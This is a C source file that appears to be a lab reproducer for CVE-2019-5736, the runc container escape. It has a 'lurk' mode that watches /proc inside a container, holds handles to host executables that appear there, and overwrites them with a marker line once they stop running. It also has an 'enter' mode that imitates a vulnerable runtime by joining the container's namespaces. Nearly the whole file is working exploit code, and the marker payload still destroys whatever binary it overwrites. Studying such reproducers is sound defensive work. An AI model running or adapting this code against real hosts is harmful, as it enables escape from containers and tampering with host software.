/*
 * CVE-2019-5736, both sides: a program inside a container that waits for a host's executable to appear in its /proc and writes
 * to it, and the careless runtime that it works against.
 *
 *   hijack lurk SECONDS     inside: prints "wrote PATH" for each foreign executable it could overwrite
 *   hijack enter PID        on the host, the control: joins PID's namespaces and executes /proc/self/exe there
 *   hijack nap              what the executed copy does: lives long enough to be found
 */
#include <errno.h>
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char mark[] = "#!/bin/false overwritten\n";

enum { MAX_SEEN = 64 };

struct lurker {
	int fds[MAX_SEEN]; /* O_PATH on foreign executables */
	char paths[MAX_SEEN][128];
	ino_t inodes[MAX_SEEN];
	size_t n;
};

/* Ours is the file we run from; anything else that shows up as an executable came from outside, or is busybox. */
static int is_ours(const struct stat *st)
{
	struct stat own;

	return (stat("/proc/self/exe", &own) == 0 && own.st_ino == st->st_ino &&
		own.st_dev == st->st_dev) ||
	       (stat("/bin/busybox", &own) == 0 && own.st_ino == st->st_ino &&
		own.st_dev == st->st_dev);
}

static void look(struct lurker *l, const char *pid)
{
	char path[64], target[100] = "";
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	(void) !readlink(path, target, sizeof(target) - 1);
	if (l->n == MAX_SEEN || fstat(fd, &st) < 0 || is_ours(&st)) {
		close(fd);
		return;
	}
	for (size_t i = 0; i < l->n; i++)
		if (l->inodes[i] == st.st_ino) {
			close(fd);
			return;
		}
	l->fds[l->n] = fd;
	l->inodes[l->n] = st.st_ino;
	snprintf(l->paths[l->n], sizeof(l->paths[0]), "%s", target);
	printf("saw %s\n", target);
	fflush(stdout);
	l->n++;
}

static void strike(struct lurker *l)
{
	for (size_t i = 0; i < l->n; i++) {
		char path[32];
		int fd;

		if (l->fds[i] < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", l->fds[i]);
		/* ETXTBSY while it runs: again until its process is gone. */
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, mark, sizeof(mark) - 1) > 0) {
			printf("wrote %s\n", l->paths[i]);
			fflush(stdout);
			l->fds[i] = -1;
		}
		close(fd);
	}
}

static int lurk(int seconds)
{
	static struct lurker l;
	time_t end = time(NULL) + seconds;

	puts("lurking");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)))
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
				look(&l, e->d_name);
		if (d)
			closedir(d);
		strike(&l);
	}
	return 0;
}

static int enter(const char *pid)
{
	static const char *const kinds[] = { "pid", "mnt" };
	char *const argv[] = { "hijack", "nap", NULL };
	int fds[2];
	char path[64];
	pid_t child;

	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%s/ns/%s", pid, kinds[i]);
		fds[i] = open(path, O_RDONLY | O_CLOEXEC);
		if (fds[i] < 0 || setns(fds[i], 0) < 0)
			return perror(path), 1;
	}
	child = fork();
	if (child == 0) {
		execv("/proc/self/exe", argv);
		_exit(127);
	}
	return waitpid(child, NULL, 0) < 0;
}

int main(int argc, char **argv)
{
	const struct timespec nap = { .tv_nsec = 300000000 };

	if (argc == 3 && strcmp(argv[1], "lurk") == 0)
		return lurk(atoi(argv[2]));
	if (argc == 3 && strcmp(argv[1], "enter") == 0)
		return enter(argv[2]);
	if (argc == 2 && strcmp(argv[1], "nap") == 0)
		return nanosleep(&nap, NULL) != 0;
	fprintf(stderr, "usage: hijack lurk SECONDS | enter PID | nap\n");
	return 2;
}
